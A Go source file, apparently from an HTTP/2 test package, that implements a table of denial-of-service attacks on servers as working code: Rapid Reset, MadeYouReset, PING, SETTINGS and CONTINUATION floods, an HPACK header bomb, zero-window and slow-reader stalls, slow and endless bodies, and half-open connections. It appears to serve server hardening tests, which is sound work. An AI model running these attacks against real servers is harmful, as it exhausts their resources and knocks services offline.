package h2test

import (
	"errors"
	"io"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

// Attack is what a hostile client does on one connection until it is cut off. Start runs once, Step
// again and again. Without a Step the connection is held.
type Attack struct {
	Key, Title  string
	Start, Step func(c *Client, r Request) error
	// Settings are those that the connection opens with.
	Settings []http2.Setting
	// Silent attacks do not read what the server sends, and Bare ones send no preface.
	Silent, Bare bool
	// Many is how many connections attack in place of one, if it is not 0.
	Many int
}

// Request is what an attack asks the server for.
type Request struct {
	// Fields are its header fields: name, value, name, value….
	Fields []string
	// Large is a body that the server answers with much more.
	Large []byte
}

var (
	noWindow = []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}
	// WideWindow never holds the server back.
	WideWindow = []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}}
)

// Attacks are the attacks that make sense on any server.
var Attacks = []Attack{
	{Key: "rapid-reset", Title: "Rapid Reset: streams opened and reset at once", Step: func(c *Client, r Request) error {
		id, err := c.Open(true, r.Fields...)
		return errors.Join(err, c.WriteRSTStream(id, http2.ErrCodeCancel))
	}},
	{Key: "made-you-reset", Title: "MadeYouReset: streams that the server is made to reset", Step: madeYouReset},
	{Key: "ping-flood", Title: "PING flood, answers not read", Silent: true, Step: func(c *Client, _ Request) error {
		return c.WritePing(false, [8]byte{})
	}},
	{Key: "settings-flood", Title: "SETTINGS flood, answers not read", Silent: true, Step: func(c *Client, _ Request) error {
		return c.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 16384})
	}},
	{Key: "continuation-flood", Title: "CONTINUATION frames without end", Start: func(c *Client, r Request) error {
		return c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.Block(r.Fields...)})
	}, Step: func(c *Client, _ Request) error {
		// A literal field without indexing, over and over.
		return c.WriteContinuation(1, false, []byte(strings.Repeat("\x00\x01a\x01b", 2000)))
	}},
	{Key: "empty-frames", Title: "empty DATA frames without end", Start: open, Step: func(c *Client, _ Request) error {
		return c.WriteData(1, false, nil)
	}},
	{Key: "header-bomb", Title: "headers that refer to the HPACK table thousands of times", Step: headerBomb},
	{Key: "zero-window", Title: "large replies asked for, windows of zero", Settings: noWindow, Start: largeReplies},
	{Key: "tiny-window", Title: "large replies asked for, one byte of window at a time", Settings: noWindow,
		Start: largeReplies, Step: func(c *Client, _ Request) error {
			c.NextID = (c.NextID + 2) % 200
			return c.WriteWindowUpdate(c.NextID|1, 1)
		}},
	{Key: "slow-reader", Title: "large replies asked for, the socket not read", Settings: WideWindow, Silent: true, Start: largeReplies},
	{Key: "streams-left", Title: "streams opened and left", Step: open},
	{Key: "slow-body", Title: "bodies of 4 MB promised, a byte a second", Start: slowBody},
	{Key: "endless-body", Title: "messages without end in one unary call", Start: open, Step: func(c *Client, _ Request) error {
		const size = 16379 // a frame, less the five bytes before a message of gRPC
		return c.WriteData(1, false, append([]byte{0, 0, 0, size >> 8, size & 0xff}, make([]byte, size)...))
	}},
	{Key: "half-open", Title: "1,000 connections that send half a preface", Bare: true, Silent: true, Many: 250,
		Start: func(c *Client, _ Request) error {
			_, err := io.WriteString(c.rw, http2.ClientPreface[:12])
			return err
		}},
}

func open(c *Client, r Request) error {
	_, err := c.Open(false, r.Fields...)
	return err
}

// madeYouReset breaks the rules on a stream whose request is complete, so that the server resets it
// while the handler is at work: a window that grows by nothing, DATA after the end, a dependency on
// itself, in turn.
func madeYouReset(c *Client, r Request) error {
	id, err := c.Open(true, r.Fields...)
	switch id / 2 % 3 {
	case 0:
		return errors.Join(err, c.WriteWindowUpdate(id, 0))
	case 1:
		return errors.Join(err, c.WriteData(id, true, []byte{0}))
	}
	return errors.Join(err, c.WritePriority(id, http2.PriorityParam{StreamDep: id}))
}

// headerBomb puts one field of 3 KB into the table and then names it 4,000 times in each header: 4
// KB on the wire, 12 MB once decoded.
func headerBomb(c *Client, r Request) error {
	fields := r.Fields
	if c.NextID == 1 {
		fields = append(fields[:len(fields):len(fields)], "x-bomb", strings.Repeat("b", 3000))
	}
	block := append(c.Block(fields...), strings.Repeat("\xbe", 4000)...) // 62, the newest entry
	c.NextID += 2
	return c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.NextID - 2, BlockFragment: block, EndHeaders: true, EndStream: true})
}

// largeReplies asks for a large reply on every stream that is allowed.
func largeReplies(c *Client, r Request) error {
	for range 250 {
		id, err := c.Open(false, r.Fields...)
		for part := r.Large; err == nil && len(part) > 0; {
			n := min(len(part), frameSize)
			err = c.WriteData(id, n == len(part), part[:n])
			part = part[n:]
		}
		if err := errors.Join(err, c.Flush()); err != nil {
			return err
		}
		// The server decides on the window of the connection: 64 KB at first.
		time.Sleep(2 * time.Millisecond)
	}
	return nil
}

func slowBody(c *Client, r Request) error {
	for range 250 {
		id, err := c.Open(false, r.Fields...)
		if err := errors.Join(err, c.WriteData(id, false, []byte{0, 0, 4 << 20 >> 16, 0, 0})); err != nil {
			return err
		}
	}
	for {
		for id := uint32(1); id < c.NextID; id += 2 {
			if err := c.WriteData(id, false, []byte{10}); err != nil {
				return err
			}
		}
		if err := c.Flush(); err != nil {
			return err // the connection has been closed
		}
		time.Sleep(time.Second)
	}
}
